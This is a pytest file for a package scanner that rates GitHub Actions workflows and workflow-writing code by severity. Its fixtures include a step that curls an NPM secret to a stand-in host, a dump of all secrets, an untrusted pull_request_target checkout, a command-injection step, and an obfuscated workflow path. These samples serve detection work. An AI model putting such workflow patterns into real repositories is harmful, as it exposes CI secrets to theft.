"""GitHub workflows that a package brings or writes."""

import pytest

from approvals.inspection.finding import Severity
from tests.approvals.inspection.findings.packages import QUIET, found, found_in

_TEXT = "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n"


@pytest.mark.parametrize(
    ("content", "line"),
    [
        (
            "on:\n  pull_request_target:\njobs:\n  a:\n    steps:\n    - with:\n"
            "        ref: ${{ github.event.pull_request.head.sha }}\n",
            7,
        ),
        (f"{_TEXT}    env:\n      ALL: ${{{{ toJSON(secrets) }}}}\n", 6),
        (f"{_TEXT}    steps:\n    - run: echo ${{{{ github.event.discussion.body }}}}\n", 6),
        (f"{_TEXT}    steps:\n    - run: curl -d ${{{{ secrets.NPM }}}} https://a.example\n", 6),
    ],
    ids=["target", "all secrets", "strangers", "sends"],
)
def test_a_workflow_that_gives_away_secrets_is_high(content: str, line: int) -> None:
    path = ".github/workflows/a.yml"
    (finding,) = found_in(content, path, rule="workflow")
    assert (finding.severity, finding.path, finding.line) == (Severity.HIGH, path, line)
    assert found({**QUIET, path: content}, {**QUIET, path: f"{content}\n#"}, rule="workflow") == []
    commented = "".join(f"# {part}\n" for part in content.splitlines())
    assert found_in(commented, path, rule="workflow") == []


@pytest.mark.parametrize(
    "content",
    [
        f"{_TEXT}    steps:\n    - uses: actions/checkout@v4\n    - run: npm test\n",
        "on: pull_request_target\njobs:\n  a:\n    runs-on: x\n    steps:\n    - run: echo\n",
    ],
    ids=range(2),
)
def test_an_ordinary_workflow_is_not_serious(content: str) -> None:
    assert found_in(content, ".github/workflows/a.yml", rule="workflow") == []


PATHS = {
    "whole": "'.github/workflows/a.yml'",
    "joined": "path.join(root, '.github', 'workflows', 'a.yml')",
}


@pytest.mark.parametrize("name", PATHS)
def test_code_that_writes_a_workflow(name: str) -> None:
    write = f"fs.writeFileSync({PATHS[name]}, text);\n"
    (finding,) = found_in(f"const text = `{_TEXT}`;\n{write}", rule="workflow-written")
    assert (finding.severity, finding.line) == (Severity.MEDIUM, 6)
    secrets = f"const text = `{_TEXT}    env:\n      A: \\${{{{ toJSON(secrets) }}}}`;\n{write}"
    (worse,) = found_in(secrets, rule="workflow-written")
    assert (worse.severity, worse.line) == (Severity.CRITICAL, 7)


def test_a_path_in_pieces_is_high() -> None:
    code = (
        "const at = ['.git' + 'hub', 'work' + 'flows', 'a.yml'].join('/');\nfs.writeFile(at, t);\n"
    )
    (finding,) = found_in(code, rule="workflow-written")
    assert (finding.severity, finding.line) == (Severity.HIGH, 2)


@pytest.mark.parametrize(
    "code",
    [
        "// see .github/workflows/ci.yml, runs-on: ubuntu\nfs.writeFile(a, b);\n",
        "if (file.endsWith('.git')) skip(file);\nfs.writeFile(a, b);\n",
        "fs.writeFileSync('.github/dependabot.yml', text);\n",
    ],
    ids=range(3),
)
def test_other_code_is_none(code: str) -> None:
    assert found_in(code, rule="workflow-written") == []


def test_a_workflow_does_not_hide_in_its_size() -> None:
    padded = _TEXT + "#" * 300_000
    (finding,) = found_in(padded, ".github/workflows/a.yml", rule="workflow")
    assert finding.severity == Severity.HIGH
